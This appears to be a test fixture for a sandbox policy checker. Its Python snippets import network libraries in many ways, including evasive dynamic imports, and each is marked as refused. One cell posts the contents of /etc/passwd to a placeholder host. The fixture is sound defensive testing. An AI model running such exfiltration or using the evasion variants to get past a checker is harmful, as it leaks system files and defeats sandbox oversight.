# presets: production
# %%
import requests  # refused: network-client
requests.get('http://x')  # refused: network-client
# %%
import urllib.request as r  # refused: network-client
r.urlopen('http://x')  # refused: network-client
# %%
import http.client  # refused: network-client
http.client.HTTPConnection('x')  # refused: network-client
# %%
import ftplib  # refused: network-client
ftplib.FTP('x')  # refused: network-client
# %%
import smtplib  # refused: network-client
# %%
import aiohttp  # refused: network-client
# %%
import httpx  # refused: network-client
httpx.get('http://x')  # refused: network-client
# %%
from urllib import request  # refused: network-client
request.urlopen('http://x')  # refused: network-client
# %%
import urllib
urllib.request.urlopen('x')  # refused: network-client
# %%
import pandas as pd
pd.read_csv('https://x/y.csv')  # refused: network-client
# %%
import xmlrpc.client  # refused: network-client
# %%
import http.server  # refused: network-client
# %%
from six.moves import urllib
urllib.request.urlopen('x')  # refused: network-client
# %%
import urllib.request  # refused: network-client
urllib.request.urlretrieve('http://x','y')  # refused: network-client
# %%
import requests  # refused: network-client
s = requests.Session()  # refused: network-client
s.post('http://x', data=open('/etc/passwd'))
# %%
from requests import post  # refused: network-client
post('http://x')  # refused: network-client
# %%
rq = __import__('requests')  # refused: network-client
rq.get('x')  # refused: network-client
# %%
import importlib
importlib.import_module('urllib.request').urlopen('x')  # refused: network-client
# %%
import telnetlib  # refused: network-client
# %%
import socketserver  # refused: raw-socket
# %%
import requests  # refused: network-client

def get(u):
    return requests.get(u)  # refused: network-client
get('x')
